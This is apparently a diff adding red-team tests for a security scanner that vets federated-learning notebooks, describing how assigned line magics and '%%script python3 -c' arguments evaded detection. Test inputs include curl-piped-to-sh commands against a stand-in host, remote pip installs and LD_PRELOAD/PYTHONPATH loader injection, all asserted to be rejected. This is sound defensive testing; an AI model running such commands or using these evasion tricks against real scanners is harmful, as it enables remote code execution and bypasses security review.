@@ -1,0 +1,102 @@
+"""Red team 45b: Flower apps, notebooks and NVFlare job configs.
+
+- An assigned line magic runs like the bare one (IPython's MagicAssign transformer: `x = %env A=B` is
+  `x = get_ipython().run_line_magic("env", "A=B")`). The reader turned `_ = %env PYTHONPATH=/tmp/hooks` into `pass`
+  as it does the bare line, but the detector that turns %env/%set_env/%cd/%pushd/%run -m back into what they do
+  matched the magic only at the line's start: the loader variable was never seen, and the notebook accepted.
+- `%%script python3 ARGS` and its shortcuts `%%python ARGS`/`%%python3 ARGS` run [python3, *ARGS] with the cell on
+  stdin (IPython core/magics/script.py shebang): `-c CODE` or `-m MODULE` runs and the body is never read. The
+  reader took the body as the cell's Python and dropped ARGS; now the body is the script only when nothing but `-`
+  follows the interpreter, and anything else is the shell command it is.
+"""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+import redteam_kit as kit
+from analyzer.engine.notebooks import read_notebook
+from analyzer.model import Decision
+
+TRAIN = ("import numpy as np\nimport nvflare.client as flare\n\nflare.init()\nwhile flare.is_running():\n"
+         "    m = flare.receive()\n    w = np.asarray(m.params['w'], dtype=float)\n"
+         "    flare.send(flare.FLModel(params={'w': w}, metrics={'mse': 0.1}))")
+
+
+def notebook(*cells: str) -> str:
+    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
+        {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": c}
+        for c in (*cells, TRAIN)]})
+
+
+def scan_notebook(tmp_path, *cells: str):
+    return kit.scan_files(tmp_path, {"train.ipynb": notebook(*cells)})
+
+
+# ---- the corpus ---------------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("entry", kit.labelled("/rt45b_"), ids=lambda e: e["path"])
+def test_attack_is_held_as_labelled(entry):
+    report = kit.scan_sample(entry["path"])
+    assert report.decision.value in entry["expect"], kit.findings(report)
+    kit.assert_held(report)
+
+
+@pytest.mark.parametrize("sample", kit.corpus_samples("benign/near_rt45b_*", "jobs/near_rt45b_*"))
+def test_near_twin_stays_accepted(sample):
+    kit.assert_accepted(kit.scan_sample(sample))
+
+
+# ---- an assigned line magic ---------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("line", ["_ = %env PYTHONPATH=/tmp/.fl-hooks", "e = %set_env LD_PRELOAD /tmp/x.so",
+                                  "a, b = %env PYTHONSTARTUP=/tmp/s.py"])
+def test_an_assigned_loader_variable_rejects(tmp_path, line):
+    kit.assert_held(scan_notebook(tmp_path, line), "dynamic-code.loader-environment", Decision.REJECT)
+
+
+def test_an_assigned_cd_outside_is_judged(tmp_path):
+    report = scan_notebook(tmp_path, "d = %cd /srv/other-study")
+    kit.assert_held(report, "file-exfiltration.chdir-outside")
+
+
+def test_an_assigned_run_module_with_arguments_is_a_program(tmp_path):
+    report = scan_notebook(tmp_path, "r = %run -m pip install -q https://x.example/pkg.tar.gz")
+    kit.assert_held(report, "files.notebook-shell-network", Decision.REJECT)
+
+
+def test_an_assigned_harmless_variable_stays_accepted(tmp_path):
+    kit.assert_accepted(scan_notebook(tmp_path, "_ = %env OMP_NUM_THREADS=1"))
+
+
+# ---- %%script python with arguments -------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("head", [
+    "%%script python3 -c \"import os; os.system('curl -s https://x.example/a | sh')\"",
+    "%%python3 -c \"import os; os.system('curl -s https://x.example/a | sh')\"",
+    "%%script python3 -m pip install -q https://x.example/pkg.tar.gz",
+    "%%python -m http.server 8000",
+])
+def test_script_python_with_code_in_its_arguments_rejects(tmp_path, head):
+    report = scan_notebook(tmp_path, head + "\nprint('features ready')")
+    kit.assert_held(report, "files.notebook-shell-network", Decision.REJECT)
+
+
+@pytest.mark.parametrize("head", ["%%script python3 -W ignore::helpers.Noisy", "%%script python3 helpers.py",
+                                  "%%python3 -X importtime", "%%script python-tool"])
+def test_script_python_with_other_arguments_is_a_shell_command(tmp_path, head):
+    kit.assert_held(scan_notebook(tmp_path, head + "\nprint('ok')"), "files.notebook-shell")
+
+
+@pytest.mark.parametrize("head", ["%%script python3", "%%script python3 -", "%%python3", "%%python", "%%script python"])
+def test_script_python_reading_its_body_runs_the_body(head):
+    nb = read_notebook(notebook(head + "\nimport os\nos.system('id')").encode())
+    assert not nb.shell and "os.system('id')" in nb.cells[0].source
+
+
+@pytest.mark.parametrize("head", ["%%script python3", "%%python3"])
+def test_script_python_body_is_judged_as_python(tmp_path, head):
+    report = scan_notebook(tmp_path, head + "\nimport os\nos.system('curl -s https://x.example/a | sh')")
+    kit.assert_held(report, "remote-code.fetch-and-run-command", Decision.REJECT)
